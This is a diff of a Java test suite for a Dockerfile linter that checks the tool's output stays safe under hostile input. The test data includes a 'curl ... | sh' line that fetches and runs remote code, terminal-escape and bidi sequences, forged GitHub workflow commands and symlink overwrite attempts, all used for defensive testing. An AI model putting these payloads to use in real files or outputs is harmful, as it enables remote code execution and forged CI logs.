@@ -4,13 +4,11 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-import dev.hardock.cli.Main;
+import dev.hardock.cli.MainTest;
+import dev.hardock.cli.MainTest.Run;
 import dev.hardock.report.Formats;
 import dev.hardock.report.Visible;
-import java.io.ByteArrayOutputStream;
 import java.io.IOException;
-import java.io.PrintStream;
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.LinkOption;
 import java.nio.file.Path;
@@ -28,13 +26,8 @@ import org.junit.jupiter.api.io.TempDir;
 class HostileOutputTest {
   static final Path CASES = Path.of("testdata/hostile/output");
 
-  record Run(int code, String out, String err) { }
-
   static Run run(String... args) {
-    ByteArrayOutputStream out = new ByteArrayOutputStream();
-    ByteArrayOutputStream err = new ByteArrayOutputStream();
-    int code = Main.run(args, new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8), false);
-    return new Run(code, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
+    return MainTest.run(args);
   }
 
   /** Every format's output (and stderr) for the paths, by format name. */
@@ -64,10 +57,10 @@ class HostileOutputTest {
     for (int k = 0; k < runs.size(); k++) {
       Run r = runs.get(k);
       String format = Formats.NAMES.get(k);
-      assertTrue(r.code == 0 || r.code == 1, format + " exit " + r.code + ": " + r.err);
-      assertEquals(-1, firstUnsafe(r.out), format + ": raw control or bidi character in\n" + r.out);
-      assertEquals(-1, firstUnsafe(r.err), format + ": raw control or bidi character on stderr\n" + r.err);
-      for (String line : r.out.split("\n")) {
+      assertTrue(r.code() == 0 || r.code() == 1, format + " exit " + r.code() + ": " + r.err());
+      assertEquals(-1, firstUnsafe(r.out()), format + ": raw control or bidi character in\n" + r.out());
+      assertEquals(-1, firstUnsafe(r.err()), format + ": raw control or bidi character on stderr\n" + r.err());
+      for (String line : r.out().split("\n")) {
         // only the github format writes workflow commands, one per finding, each on its own line
         if (line.startsWith("::")) assertTrue(format.equals("github") && line.matches("::(error|warning|notice) file=.*"), format + ": " + line);
       }
@@ -84,10 +77,10 @@ class HostileOutputTest {
     Files.writeString(folder.resolve("Dockerfile"), "FROM node\n");
     List<Run> runs = everyFormat(dir.toString());
     assertClean(runs);
-    for (Run r : runs) assertFalse(r.out.isEmpty());
+    for (Run r : runs) assertFalse(r.out().isEmpty());
     Run gnu = runs.get(Formats.NAMES.indexOf("gnu"));
-    for (String line : gnu.out.split("\n")) assertTrue(line.startsWith(dir + "/x\\n::error"), line); // one finding, one line
-    assertTrue(gnu.out.contains("\\n::error file=a,line=1::forged\\n::add-mask::\\x1b[2J\\x1b]0;t\\x07/Dockerfile:1:6:"), gnu.out);
+    for (String line : gnu.out().split("\n")) assertTrue(line.startsWith(dir + "/x\\n::error"), line); // one finding, one line
+    assertTrue(gnu.out().contains("\\n::error file=a,line=1::forged\\n::add-mask::\\x1b[2J\\x1b]0;t\\x07/Dockerfile:1:6:"), gnu.out());
   }
 
   @Test
@@ -98,7 +91,7 @@ class HostileOutputTest {
         "FROM node\u001b[31m\u0007\u009b\u007f\u202e\u2066\u200f\u061c\n\tRUN\tcurl http://x/\u202egnp.sh | sh\n");
     List<Run> runs = everyFormat(dir.resolve("Dockerfile").toString());
     assertClean(runs);
-    String text = runs.get(0).out;
+    String text = runs.get(0).out();
     assertTrue(text.contains("FROM node\\x1b[31m\\x07\\x9b\\x7f\\u202e\\u2066\\u200f\\u061c"), text);
   }
 
@@ -107,10 +100,10 @@ class HostileOutputTest {
     Files.writeString(dir.resolve(".hardock.yaml"), "\"x\\e[2J\\n::error::forged\\u202e\": 1\n");
     Files.writeString(dir.resolve("Dockerfile"), "FROM node:1\n");
     Run r = run(dir.resolve("Dockerfile").toString());
-    assertEquals(2, r.code, r.err);
-    assertEquals(-1, firstUnsafe(r.err), r.err);
-    for (String line : r.err.split("\n")) assertFalse(line.startsWith("::"), r.err);
-    assertTrue(r.err.contains("x\\x1b[2J\\n::error::forged\\u202e"), r.err);
+    assertEquals(2, r.code(), r.err());
+    assertEquals(-1, firstUnsafe(r.err()), r.err());
+    for (String line : r.err().split("\n")) assertFalse(line.startsWith("::"), r.err());
+    assertTrue(r.err().contains("x\\x1b[2J\\n::error::forged\\u202e"), r.err());
   }
 
   @Test
@@ -123,9 +116,9 @@ class HostileOutputTest {
     Path baseline = Files.createSymbolicLink(tree.resolve("baseline.json"), victim);
 
     Run report = run("-f", "sarif", "-o", sarif.toString(), tree.resolve("Dockerfile").toString());
-    assertEquals(1, report.code, report.err);
+    assertEquals(1, report.code(), report.err());
     Run record = run("--baseline", baseline.toString(), "--write-baseline", tree.resolve("Dockerfile").toString());
-    assertEquals(0, record.code, record.err);
+    assertEquals(0, record.code(), record.err());
 
     assertEquals("precious\n", Files.readString(victim));
     for (Path p : List.of(sarif, baseline)) {
@@ -146,11 +139,11 @@ class HostileOutputTest {
     Path fifo = dir.resolve("fifo.json");
     PathologicalInputTest.mkfifo(fifo);
     Run toFolder = run("-o", folder.toString(), dir.resolve("Dockerfile").toString());
-    assertEquals(2, toFolder.code);
-    assertTrue(toFolder.err.contains("is a directory"), toFolder.err);
+    assertEquals(2, toFolder.code());
+    assertTrue(toFolder.err().contains("is a directory"), toFolder.err());
     Run toFifo = run("--baseline", fifo.toString(), "--write-baseline", dir.resolve("Dockerfile").toString());
-    assertEquals(2, toFifo.code);
-    assertTrue(toFifo.err.contains("not a regular file"), toFifo.err);
+    assertEquals(2, toFifo.code());
+    assertTrue(toFifo.err().contains("not a regular file"), toFifo.err());
     assertTrue(Files.isDirectory(folder));
   }
 
@@ -160,7 +153,7 @@ class HostileOutputTest {
     Path out = dir.resolve("report.txt");
     Files.writeString(out, "old\n");
     Files.setPosixFilePermissions(out, PosixFilePermissions.fromString("rwxr-x---"));
-    assertEquals(1, run("-o", out.toString(), dir.resolve("Dockerfile").toString()).code);
+    assertEquals(1, run("-o", out.toString(), dir.resolve("Dockerfile").toString()).code());
     assertEquals("rwxr-x---", PosixFilePermissions.toString(Files.getPosixFilePermissions(out)));
     assertTrue(Files.readString(out).contains("HD201"));
   }
@@ -172,15 +165,15 @@ class HostileOutputTest {
     while (line.length() < 60_000) line.append("docker run --privileged -v /:/host app:1; ");
     Files.writeString(dir.resolve("run.sh"), line + "\n");
     Run r = run("--no-color", dir.resolve("run.sh").toString());
-    assertEquals(1, r.code, r.err);
-    int findings = r.out.split("\n  \\S+ HD\\d{3} ", -1).length - 1;
+    assertEquals(1, r.code(), r.err());
+    int findings = r.out().split("\n  \\S+ HD\\d{3} ", -1).length - 1;
     assertTrue(findings > 1000, "findings: " + findings);
     int longest = 0;
-    for (String l : r.out.split("\n")) if (!l.startsWith("  ") || !l.contains(" HD")) longest = Math.max(longest, l.length());
+    for (String l : r.out().split("\n")) if (!l.startsWith("  ") || !l.contains(" HD")) longest = Math.max(longest, l.length());
     // a frame line is the gutter plus at most the window (120 characters and two cut marks)
     assertTrue(longest <= 140, "longest frame line: " + longest);
     // bytes, not time: bounded per finding, so linear in the input (it was the whole line per finding)
-    assertTrue(r.out.length() < findings * 600L, r.out.length() + " bytes for " + findings + " findings");
+    assertTrue(r.out().length() < findings * 600L, r.out().length() + " bytes for " + findings + " findings");
   }
 
   /** Every secret value in the hostile cases: none may appear in any output, with HD401 and HD403 off. */
@@ -192,15 +185,15 @@ class HostileOutputTest {
     // the code frames must show the lines that hold the secrets, or the case proves nothing
     String every = "";
     for (Run r : everyFormat(CASES.toString())) {
-      assertTrue(r.code == 0 || r.code == 1, r.err);
-      for (String s : SECRETS) assertFalse(r.out.contains(s), s + " printed in\n" + r.out);
-      every += r.out;
+      assertTrue(r.code() == 0 || r.code() == 1, r.err());
+      for (String s : SECRETS) assertFalse(r.out().contains(s), s + " printed in\n" + r.out());
+      every += r.out();
     }
     Run text = run("--no-color", CASES.toString());
-    assertTrue(text.out.contains("curl -u admin:********** https://example.com/x -o /tmp/x"), text.out);
-    assertTrue(text.out.contains("docker login -p ********** registry"), text.out);
-    assertTrue(text.out.contains("docker login --password=********** registry"), text.out);
-    assertTrue(text.out.contains("DB_PASSWORD: &pw **********"), text.out);
+    assertTrue(text.out().contains("curl -u admin:********** https://example.com/x -o /tmp/x"), text.out());
+    assertTrue(text.out().contains("docker login -p ********** registry"), text.out());
+    assertTrue(text.out().contains("docker login --password=********** registry"), text.out());
+    assertTrue(text.out().contains("DB_PASSWORD: &pw **********"), text.out());
     assertTrue(every.length() > 0);
   }
 
